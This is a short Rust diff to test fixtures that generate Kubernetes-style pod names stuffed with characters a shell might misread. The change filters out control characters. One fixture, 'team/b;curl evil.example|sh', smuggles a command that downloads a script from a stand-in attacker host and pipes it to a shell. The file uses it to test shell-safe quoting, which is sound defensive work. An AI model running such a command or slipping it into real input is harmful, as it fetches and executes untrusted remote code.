@@ -63,9 +63,10 @@ fn texts() -> impl Iterator<Item = String> {
     single.chain(["", "<script>", "été", "日本語", "😀", "e\u{301}"].map(str::to_owned))
 }
 
-/// Pods as `namespace/pod`, with every character that a shell could take for its own.
+/// Pods as `namespace/pod`, with every character that a shell could take for its own. No command has a control character.
 fn pods() -> impl Iterator<Item = String> {
-    let strange = texts().map(|text| format!("team/{text}"));
+    let printed = texts().filter(|text| !text.contains(char::is_control));
+    let strange = printed.map(|text| format!("team/{text}"));
     let whole = [
         "team/chat-0",
         "team/b;curl evil.example|sh",
